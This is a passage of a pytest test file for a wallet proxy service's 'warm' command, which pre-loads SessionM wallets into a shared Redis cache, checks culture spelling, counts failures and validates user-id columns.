            pool.submit(lambda: limiter.wait(stop) and started.append(time.monotonic()))
    # Nobody starts before their slot, so the n-th start is at least n intervals in.
    for n, moment in enumerate(sorted(started)):
        assert moment >= created + n / 50 - 0.001


# --- warm ----------------------------------------------------------------------------


@pytest.fixture
def warm_env(core_env, redis_url) -> dict:
    return {**core_env, "WALLET_PROXY_REDIS_URL": redis_url}


def test_warm_then_a_burst_is_served_with_zero_sessionm_calls(tmp_path, warm_env, sandbox):
    users = ["demo-alice", "demo-bob", "demo-carol", "demo-mallory"]
    path = write_csv(tmp_path / "send.csv", [[u, ""] for u in users], header=USER_IDS)
    result = cli(["warm", path, "--culture", "es-ES"], warm_env)
    assert result.exit_code == 0, result.output
    assert "warmed 4, not found 0, failed 0" in result.stderr
    warmed_calls = sandbox.stats()["calls"]
    assert warmed_calls >= 4

    # Another instance, as Braze's burst would meet it.
    instance = create_app({**warm_env, "TESTING": True})
    headers = {"Authorization": f"Bearer {API_KEY}"}

    def get(n: int):
        client = instance.test_client()
        return client.get(f"/v1/wallets/{users[n % 4]}?culture=es-ES", headers=headers)

    with ThreadPoolExecutor(16) as pool:
        responses = list(pool.map(get, range(400)))
    assert {response.status_code for response in responses} == {200}
    assert {response.headers["X-Cache"] for response in responses} == {"HIT"}
    assert sandbox.stats()["calls"] == warmed_calls


def test_warm_culture_is_the_apis_however_it_is_spelled(tmp_path, warm_env, sandbox):
    """`--culture es_es` warms the cache key that `?culture=es-ES` (or ES_es) reads."""
    path = write_csv(tmp_path / "send.csv", [["demo-alice", ""]], header=USER_IDS)
    result = cli(["warm", path, "--culture", "es_es"], warm_env)
    assert result.exit_code == 0, result.output
    client = create_app({**warm_env, "TESTING": True}).test_client()
    headers = {"Authorization": f"Bearer {API_KEY}"}
    for culture in ("es-ES", "ES_es"):
        answer = client.get(f"/v1/wallets/demo-alice?culture={culture}", headers=headers)
        assert (answer.headers["X-Cache"], answer.get_json()["culture"]) == ("HIT", "es-ES")
    assert sandbox.stats()["calls_by_culture"] == {"es-ES": 1}


def test_warm_counts_not_found_and_failures(tmp_path, warm_env, sandbox):
    path = write_csv(tmp_path / "send.csv", [["demo-alice", ""], ["nobody", ""]], header=USER_IDS)
    result = cli(["warm", path, "--rate", "100"], warm_env)
    assert result.exit_code == 0, result.output
    assert "warmed 1, not found 1, failed 0" in result.stderr

    sandbox.configure(garbage=True)
    unwarmed = write_csv(tmp_path / "later.csv", [["demo-bob", ""]], header=USER_IDS)
    failing = cli(["warm", unwarmed], warm_env)
    assert failing.exit_code == 1
    assert "warmed 0, not found 0, failed 1" in failing.stderr
    assert "line 2: demo-bob: SessionM's answer is not a JSON object." in failing.stderr


def test_warm_refuses_without_a_shared_cache_and_checks_ids(tmp_path, core_env, sandbox):
    path = write_csv(tmp_path / "send.csv", [["demo-alice", ""]], header=USER_IDS)
    result = cli(["warm", path], core_env)
    assert result.exit_code == 2
    assert result.output.strip().splitlines() == [
        "Error: configuration error: WALLET_PROXY_REDIS_URL: is required to warm the cache "
        "the service shares: without it the wallets would only land in this command's memory"
    ]

    bad = write_csv(tmp_path / "bad.csv", [["demo-alice", ""], ["not an id", ""]], header=USER_IDS)
    result = cli(["warm", bad, "--dry-run"], core_env)
    assert result.exit_code == 2
    assert "line 3: 'not an id': user_id must be 1 to 128 characters" in result.output
    assert cli(["warm", path, "--dry-run"], core_env).exit_code == 0
    assert sandbox.stats()["calls"] == 0


def test_warm_needs_user_ids_not_an_external_id_column(tmp_path, warm_env, sandbox):
    both = write_csv(
        tmp_path / "send.csv", [["ext-1", "demo-alice"]], header=("external_id", "user_id")
    )
    refused = cli(["warm", both], warm_env)
    assert refused.exit_code == 2
    assert refused.output.splitlines() == [
        f"Error: {both}: the ids would come from column 'external_id', but wallets are fetched "
        "by SessionM user id (Connect takes no external id): name the user-id column with "
        "--id-column, e.g. --id-column user_id"
    ]
    assert cli(["warm", both, "--id-column", "external_id", "--dry-run"], warm_env).exit_code == 2
    assert sandbox.stats()["calls"] == 0
    named = cli(["warm", both, "--id-column", "user_id"], warm_env)
    assert named.exit_code == 0, named.output
    assert sandbox.stats()["calls_by_user"] == {"demo-alice": 1}


def test_warm_needs_connect_and_redis_but_no_api_key(tmp_path, warm_env, sandbox):
    without_keys = {k: v for k, v in warm_env.items() if k != "WALLET_PROXY_API_KEYS"}
    path = write_csv(tmp_path / "send.csv", [["demo-bob", ""]], header=USER_IDS)
    result = cli(["warm", path], without_keys)
    assert result.exit_code == 0, result.output
    assert "warmed 1" in result.stderr
